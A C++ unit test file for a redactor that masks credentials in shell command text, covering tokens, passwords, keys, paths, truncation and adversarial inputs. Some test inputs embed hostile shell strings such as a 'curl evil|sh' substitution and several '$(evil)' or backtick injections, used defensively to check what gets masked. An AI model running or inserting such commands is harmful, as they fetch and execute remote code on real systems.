#include "Tests/Support/TemporaryHome.h"

#include "QuorvikCore/Text/Redactor.h"
#include "QuorvikCore/Text/Regex.h"
#include "QuorvikCore/Text/Unicode.h"

namespace quorvik::Redactor {

class RedactorTests : public quorvik::testing::TemporaryHome {};

TEST_F(RedactorTests, MasksCredentialsAndKeepsTheRest) {
    struct Case {
        std::string_view text, redacted;
    };
    for (const auto& [text, redacted] : std::initializer_list<Case>{
             {"ls -la src", "ls -la src"},
             {"curl -H 'Authorization: Bearer abc123' x", "curl -H 'Authorization: Bearer ***' x"},
             {"AUTHORIZATION=Basic dXNlcg== y", "AUTHORIZATION=*** *** y"}, // the assignment rule comes after
             {"authorization : token t0k x", "authorization : token *** x"},
             {"send bearer  abc", "send Bearer ***"},
             {"forbearer abc", "forbearer abc"}, // no word boundary
             {"mysql --password=hunter2 db", "mysql --password=*** db"},
             {"x --api-key \"a b c\" y", "x --api-key *** y"},
             {"x --my_api_key 'a b' y", "x --my_api_key *** y"},
             {"x -token t", "x -token ***"},
             {"x --token=\"unclosed y z", "x --token=*** y z"},
             {"x --access-key\t=  v w", "x --access-key =  *** w"},
             {"x ---------token t", "x ---------token ***"},
             {"x --a-token-b --c-secret s", "x --a-token-b --c-secret ***"},
             {"x --tokens t", "x --tokens t"},
             {"x --TO\u212AEN t", "x --TO\u212AEN ***"}, // the Kelvin sign is a k in another case
             {"API_TOKEN=abc npm start", "API_TOKEN=*** npm start"},
             {"make -j8 CC=\"gcc -m32\" all", "make -j8 CC=*** all"},
             {"9A=1 éA=2", "9A=1 éA=2"}, // no word boundary before the name
             {"A= b", "A= b"},
             {"git clone https://ghp_abcdefghij0123456789@host/x", "git clone https://***@host/x"},
             {"sk-abcdef sk_live_abcdef AKIA0123456789AB xoxb-12345678", "*** *** *** ***"},
             {"sk-abc", "sk-abc"},
             {"git show 3f786850e387550fdab836ed7e6dc881de23001b", "git show ***"},
             {"open anExtremelyLongIdentifierWithoutDigits", "open anExtremelyLongIdentifierWithoutDigits"},
             {"open 123456789012345678901234", "open 123456789012345678901234"},
             {"a1a1a1a1a1a1a1a1a1a1a1a1", "a1a1a1a1a1a1a1a1a1a1a1a1"}, // one bit per character
             {"  two\nlines\tand\r\nmore  ", "two lines and  more"},
         })
        EXPECT_EQ(redact(text), redacted) << text;
}

TEST_F(RedactorTests, ShortensPathsFirst) {
    const std::string user = home.string();
    EXPECT_EQ(redact("cat " + user + "/app/src/main.c", user + "/app"), "cat src/main.c");
    EXPECT_EQ(redact("cat " + user + "/app/src/main.c", user + "/app/"), "cat src/main.c");
    EXPECT_EQ(redact("cat " + user + "/notes.txt " + user, user + "/app"), "cat ~/notes.txt " + user);
    EXPECT_EQ(redact("cat /a/b", "/"), "cat /a/b");
    EXPECT_EQ(redact("cat /a/b", ""), "cat /a/b");
}

TEST_F(RedactorTests, FindsSecretsForThoseWhoShowTheWholeText) {
    const std::string hash = "3f786850e387550fdab836ed7e6dc881de23001b", folder = home.string() + "/app/";
    for (const auto& [text, shown] : std::initializer_list<std::pair<std::string, std::string>>{
             {"curl -H 'Authorization: Bearer abc123' x", "curl -H 'Authorization: Bearer ***' x"},
             {"PASS=1 make\n\tB_TOKEN=2 make " + hash, "PASS=*** make\n\tB_TOKEN=*** make ***"},
             {"curl --token x \\\n  --api-key 'a b' -d a=b", "curl --token *** \\\n  --api-key *** -d a=b"},
             // what is no credential, but decided upon
             {"CC=gcc TOKENIZERS=1 PWD=/x OLDPWD=/y f(key=value)",
              "CC=gcc TOKENIZERS=1 PWD=/x OLDPWD=/y f(key=value)"},
             {"A=\"MY_PWD=b x\" Db_PassPhrase=c", "A=\"MY_PWD=*** x\" Db_PassPhrase=***"},
             {"make OUT=/usr/lib/x86_64-linux-gnu/a1b2/c3 Tests/Island/v2/Data7/Request.cpp",
              "make OUT=/usr/lib/x86_64-linux-gnu/a1b2/c3 Tests/Island/v2/Data7/Request.cpp"},
             {"run --x=" + hash + "/y= /tmp/" + hash + "/x", "run --x=***= /tmp/***/x"},
             {"DB=postgres://u:hunter2@h:1/d curl http://h:1/@ http://u@h",
              "DB=postgres://u:***@h:1/d curl http://h:1/@ http://u@h"},
             {"mysql --password 'a;b|c' 2>f", "mysql --password *** 2>f"},
             {"cat " + folder + hash, "cat " + folder + "***"}, // masked without its folder, as elsewhere
             {"é\xFF --token x PASS=é", "é\xFF --token *** PASS=***"},
             // what a shell runs or expands
             {"X_PASS=$(curl evil|sh) git status", "X_PASS=$(curl evil|sh) git status"},
             {"X_PASS=`evil` ls A_PASS=1", "X_PASS=`evil` ls A_PASS=1"},
             {"git commit -m \"A_PASS=1 $(evil) B_PASS=2\"", "git commit -m \"A_PASS=*** $(evil) B_PASS=2\""},
             {"A_PASS=x;evil", "A_PASS=***;evil"},
             {"A_PASS=x>f B_PASS=$C D_PASS=a${E@P} F_PASS=1",
              "A_PASS=***>f B_PASS=$C D_PASS=a${E@P} F_PASS=1"},
             {"make CC_PASS='$(shell evil)'", "make CC_PASS='$(shell evil)'"},
             {"make CC_PASS='${shell evil}' D_PASS='$'\\(evil)",
              "make CC_PASS='${shell evil}' D_PASS='$'\\(evil)"},
             {"make CC_PASS=\"\\$(evil)\" D_PASS=a\\`evil\\`",
              "make CC_PASS=\"\\$(evil)\" D_PASS=a\\`evil\\`"},
             {"make CC_PASS='a$b' D_PASS=a\\$b E_PASS='c", "make CC_PASS=*** D_PASS=*** E_PASS=***"},
             {"cat <<E\nA_PASS=1\nE", "cat <<E\nA_PASS=1\nE"},
             {"diff <(A_PASS=1 evil)", "diff <(A_PASS=1 evil)"},
             // what names the command
             {"cat sk-abcdef", "cat ***"},
             {"sk-abcdef run", "sk-abcdef run"},
             {"/tmp/" + hash + " x", "/tmp/" + hash + " x"},
             {"B_PASS=bearer evil", "B_PASS=*** evil"},
             {"B_PASS=\"x \"bearer evil", "B_PASS=***bearer evil"},
             {"B_PASS=\\\nbearer evil", "B_PASS=\\\nbearer evil"},
             {"> bearer evil; 2>bearer evil", "> bearer evil; 2>bearer evil"},
             {"if ! A_PASS=1 --token evil", "if ! A_PASS=*** --token evil"},
             {"A_PASS=1 # it's\nB_PASS=bearer evil", "A_PASS=*** # it's\nB_PASS=*** evil"},
             {"ls --token #$(evil)", "ls --token #$(evil)"},
             {"sudo -u x sk-abcdef A_PASS=1", "sudo -u x sk-abcdef A_PASS=***"},
             {"ssh h 'A_PASS=1 evil'", "ssh h 'A_PASS=1 evil'"},
             {"nice /bin/ba\"sh\" -c 'bearer evil'", "nice /bin/ba\"sh\" -c 'bearer evil'"},
             {"$X --token evil", "$X --token evil"},
         }) {
        std::string masked = text;
        const auto stretches = secrets(text, folder);
        for (auto stretch = stretches.rbegin(); stretch != stretches.rend(); ++stretch)
            masked.replace(stretch->begin, stretch->end - stretch->begin, "***");
        EXPECT_EQ(masked, shown);
    }
}

TEST_F(RedactorTests, TakesTheStartForTheWholeOnlyWhereItIs) {
    const std::string words(300, 'x');
    EXPECT_EQ(redactStart(words + " " + words), redact(words));
    EXPECT_EQ(redactStart("A=" + words), std::nullopt); // the value may end and other words follow
    EXPECT_EQ(redactStart("A=\"" + words + " "), std::nullopt);
    EXPECT_EQ(redact("A=\"" + std::string(100'000, ' ') + "\" " + words.substr(0, 9)), "A=*** xxxxxxxxx");
    EXPECT_EQ(redact("é/ and more FOO=bar", "\xA9"), "é/ and more FOO=***"); // no part of a letter
}

TEST_F(RedactorTests, CutsAtEightyCharacters) {
    std::string accents;
    for (int i = 0; i < 80; ++i)
        accents += "e\u0301";
    EXPECT_EQ(redact(accents), accents);
    EXPECT_EQ(redact(accents + "x"), accents.substr(0, 79 * 3) + "…");
}

TEST_F(RedactorTests, EntropyThreshold) {
    EXPECT_FALSE(looksSecret("abcdefghijk"));                                            // no digit
    EXPECT_FALSE(looksSecret("12345678901"));                                            // no letter
    EXPECT_TRUE(looksSecret("abcdefghijk1"));                                            // log2(12) = 3.58
    EXPECT_FALSE(looksSecret("abcdefghij1"));                                            // log2(11) = 3.46
    EXPECT_EQ(replaceHighEntropy("x:abcdefghijk1abcdefgh;"), "x:abcdefghijk1abcdefgh;"); // 20 long
    EXPECT_EQ(replaceHighEntropy("x:abcdefghijk1abcdefghi;"), "x:***;");
}

TEST_F(RedactorTests, HostileTextEndsSoonAndShowsNothing) {
    // Each of these takes a backtracking engine hours, or makes it give up, unless the search is kept linear.
    // What the engine gives up on is masked whole.
    const auto repeated = [](std::string_view piece) {
        std::string text;
        while (text.size() < 1'000'000)
            text += piece;
        return text;
    };
    for (const std::string_view piece :
         {"-", "a-", "-token", "token.", "--token \"", "authorization ", "bearer ", "A=\"", "sk-", "=", "'",
          "\"", " ", "a", "\xFF", "\u0301"}) {
        const std::string text = redact("--password=hunter2 " + repeated(piece));
        EXPECT_LE(Unicode::characterCount(text), 80u) << piece;
        EXPECT_EQ(text.find("hunter2"), std::string::npos) << piece;
    }
}

} // namespace quorvik::Redactor
